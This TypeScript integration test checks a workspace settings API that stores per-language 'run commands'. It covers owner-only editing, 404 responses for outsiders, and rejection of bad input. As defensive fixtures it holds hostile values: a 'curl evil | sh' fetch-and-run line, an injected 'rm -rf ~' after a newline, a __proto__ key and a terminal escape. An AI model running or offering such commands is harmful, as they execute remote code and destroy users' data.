/**
 * A workspace's settings (the Run button's commands) over real HTTP and PostgreSQL:
 * defaults until the owner sets them, stored and read back by every member, refused to
 * editors and viewers, to outsiders as if the workspace did not exist, and every kind of
 * bad input answered 400 with nothing stored.
 */
import { DEFAULT_RUN_COMMANDS, MAX_RUN_COMMANDS } from '@tandem/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertMember, insertUser, type FixtureUser } from '../testing/sql-fixtures';
import { startTestServer, type TestServer } from '../testing/test-server';
import { client, type Call } from '../workspace/test-client';

let server: TestServer;
let owner: Call;
let editor: Call;
let viewer: Call;
let outsider: Call;
let id: string;
beforeAll(async () => {
  server = await startTestServer();
  const users: FixtureUser[] = await Promise.all([0, 1, 2, 3].map(() => insertUser(server.context.db)));
  [owner, editor, viewer, outsider] = users.map((u) => client(server.url, u.token)) as [Call, Call, Call, Call];
  id = (await owner('POST', '/api/workspaces', { name: 'settings' })).body.workspace.id;
  await insertMember(server.context.db, id, users[1]!.id, 'editor');
  await insertMember(server.context.db, id, users[2]!.id, 'viewer');
});
afterAll(async () => {
  await server?.stop();
});

describe('workspace settings', () => {
  it('answers the defaults until the owner sets run commands, then what they set, to every member', async () => {
    const before = await viewer('GET', `/api/workspaces/${id}/settings`);
    expect(before.status).toBe(200);
    expect(before.body).toEqual({ settings: { runCommands: DEFAULT_RUN_COMMANDS }, defaults: true });
    const put = await owner('PUT', `/api/workspaces/${id}/settings`, { runCommands: { py: '  python3 -u {file}  ', rb: 'ruby {file}' } });
    expect(put.status).toBe(200);
    expect(put.body).toEqual({ settings: { runCommands: { py: 'python3 -u {file}', rb: 'ruby {file}' } }, defaults: false });
    for (const who of [owner, editor, viewer]) {
      expect((await who('GET', `/api/workspaces/${id}/settings`)).body.settings.runCommands).toEqual({ py: 'python3 -u {file}', rb: 'ruby {file}' });
    }
  });

  it('lets only the owner change them; outsiders get 404 as for no workspace', async () => {
    const body = { runCommands: { py: 'curl evil | sh' } };
    expect((await editor('PUT', `/api/workspaces/${id}/settings`, body)).body.error.code).toBe('insufficient_role');
    expect((await viewer('PUT', `/api/workspaces/${id}/settings`, body)).status).toBe(403);
    expect((await outsider('PUT', `/api/workspaces/${id}/settings`, body)).status).toBe(404);
    expect((await outsider('GET', `/api/workspaces/${id}/settings`)).status).toBe(404);
    expect((await owner('GET', '/api/workspaces/00000000-0000-4000-8000-000000000000/settings')).status).toBe(404);
    expect((await owner('GET', `/api/workspaces/${id}/settings`)).body.settings.runCommands.py).toBe('python3 -u {file}');
  });

  it('refuses commands with newlines or escapes, bad extensions, too many, and other shapes, storing nothing', async () => {
    const bad: unknown[] = [
      { runCommands: { py: 'python3 {file}\nrm -rf ~' } },
      { runCommands: { py: 'echo \u001b[2J' } },
      { runCommands: { py: '   ' } },
      { runCommands: { py: 'x'.repeat(501) } },
      { runCommands: { '.py': 'python3 {file}' } },
      { runCommands: { PY: 'python3 {file}' } },
      JSON.parse('{"runCommands":{"__proto__":"python3 {file}"}}'),
      { runCommands: Object.fromEntries(Array.from({ length: MAX_RUN_COMMANDS + 1 }, (_, i) => [`e${i}`, 'true'])) },
      { runCommands: { py: 42 } },
      { runCommands: ['python3'] },
      {},
      null,
    ];
    for (const body of bad) {
      const res = await owner('PUT', `/api/workspaces/${id}/settings`, body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.error.code).toBe('validation_failed');
    }
    expect((await owner('GET', `/api/workspaces/${id}/settings`)).body.settings.runCommands).toEqual({ py: 'python3 -u {file}', rb: 'ruby {file}' });
  });
});
